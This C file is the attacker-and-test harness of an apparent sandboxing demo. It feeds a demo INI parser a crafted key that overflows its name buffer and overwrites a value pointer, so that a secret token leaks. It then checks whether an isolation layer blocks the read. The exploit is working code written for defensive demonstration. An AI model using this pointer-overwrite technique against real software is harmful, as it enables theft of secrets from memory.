/* SPDX-License-Identifier: MIT */
/* pj_attack.c: the attacker of the parser-jail demo and its test.  It
 * starts the application (APP --debug) with a fresh random token in
 * PJ_TOKEN, reads the token's address from the debug line, and sends a
 * configuration that exploits tinyini's name overflow: the key "endpoint"
 * padded with \xNN escapes until they overwrite the entry's value pointer
 * (with the token's address) and length.  The application then asks the
 * parser for server.endpoint and prints what it got.
 *
 *   pj_attack [--expect=stolen|stopped] APP
 *
 * Exit status 0 if the printed endpoint contained the token (stolen), 3 if
 * not, 1 on errors.  --expect=stolen|stopped makes it a test with a closing
 * line: `stopped' also demands that the application died with erim's
 * violation report on stderr. */
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/wait.h>
#include <unistd.h>

#define PJA_VIOLATION "erim: violation: untrusted code read trusted memory"

static void pja_die(const char *what)
{
	fprintf(stderr, "pj_attack: %s: %s\n", what, strerror(errno));
	exit(1);
}

/* Read all of FD into BUF (NUL terminated). */
static void pja_slurp(int fd, char *buf, size_t cap)
{
	size_t len = 0;
	ssize_t got;

	while (len < cap - 1 && (got = read(fd, buf + len, cap - 1 - len)) != 0) {
		if (got < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		len += (size_t)got;
	}
	buf[len] = '\0';
}

int main(int argc, char **argv)
{
	static char out[65536], err[65536];
	const char *expect = NULL;
	char token[33], line[128], evil[512], *p;
	uint8_t rnd[16];
	int in[2], o[2], e[2], st, stolen, died, violation, pass;
	unsigned long long addr;
	pid_t pid;
	FILE *from;
	size_t i;

	if (argc == 3 && strncmp(argv[1], "--expect=", 9) == 0) {
		expect = argv[1] + 9;
		argv++;
		argc--;
	}
	if (argc != 2 || (expect && strcmp(expect, "stolen") != 0 && strcmp(expect, "stopped") != 0)) {
		fprintf(stderr, "usage: pj_attack [--expect=stolen|stopped] APP\n");
		return 1;
	}
	if (getrandom(rnd, sizeof rnd, 0) != (ssize_t)sizeof rnd)
		pja_die("getrandom");
	for (i = 0; i < sizeof rnd; i++)
		snprintf(token + 2 * i, 3, "%02x", rnd[i]);
	if (setenv("PJ_TOKEN", token, 1) != 0)
		pja_die("setenv");
	if (pipe(in) != 0 || pipe(o) != 0 || pipe(e) != 0)
		pja_die("pipe");
	pid = fork();
	if (pid < 0)
		pja_die("fork");
	if (pid == 0) {
		dup2(in[0], 0);
		dup2(o[1], 1);
		dup2(e[1], 2);
		close(in[0]); close(in[1]); close(o[0]); close(o[1]); close(e[0]); close(e[1]);
		execl(argv[1], argv[1], "--debug", (char *)NULL);
		fprintf(stderr, "pj_attack: cannot run %s: %s\n", argv[1], strerror(errno));
		_exit(127);
	}
	close(in[0]);
	close(o[1]);
	close(e[1]);
	from = fdopen(o[0], "r");
	if (from == NULL)
		pja_die("fdopen");
	if (fgets(line, sizeof line, from) == NULL || sscanf(line, "debug: token at %llx", &addr) != 1) {
		printf("attack: no debug line from the application\n");
		addr = 0;
	} else {
		printf("attack: the token is at 0x%llx; sending a configuration whose key overflows\n", addr);
	}
	/* "[server]" + "endpoint" + NUL + 16 bytes of padding fill the 32-byte
	 * name; then 8 bytes of value pointer and 8 bytes of length. */
	p = evil + snprintf(evil, sizeof evil, "[server]\nendpoint\\x00AAAAAAAAAAAAAAAA");
	for (i = 0; i < 8; i++)
		p += sprintf(p, "\\x%02llx", (addr >> (8 * i)) & 0xff);
	p += sprintf(p, "\\x40\\x00\\x00\\x00\\x00\\x00\\x00\\x00 = https://example.org/\n");
	if (write(in[1], evil, (size_t)(p - evil)) < 0)
		printf("attack: the application is gone before reading the configuration\n");
	close(in[1]);
	if (fgets(out, sizeof out, from) == NULL)
		out[0] = '\0';
	out[strcspn(out, "\n")] = '\0';
	fclose(from);
	pja_slurp(e[0], err, sizeof err);
	close(e[0]);
	if (waitpid(pid, &st, 0) < 0)
		pja_die("waitpid");
	fflush(stdout);
	fputs(err, stderr);
	fflush(stderr);
	stolen = strstr(out, token) != NULL;
	violation = strstr(err, PJA_VIOLATION) != NULL;
	died = WIFSIGNALED(st) || WEXITSTATUS(st) != 0;
	printf("attack: the application printed: %s\n", out[0] ? out : "(nothing)");
	if (WIFSIGNALED(st))
		printf("app: killed by signal %d (%s)\n", WTERMSIG(st), strsignal(WTERMSIG(st)));
	else if (died)
		printf("app: exited with status %d\n", WEXITSTATUS(st));
	printf("attack: %s\n", stolen ? "the TOKEN LEAKED" : "the token did not leak");
	if (expect == NULL)
		return stolen ? 0 : 3;
	pass = strcmp(expect, "stolen") == 0 ? stolen : !stolen && died && violation;
	printf("pj_attack_%s: %d passed, %d failed\n", expect, pass, !pass);
	return pass ? 0 : 1;
}
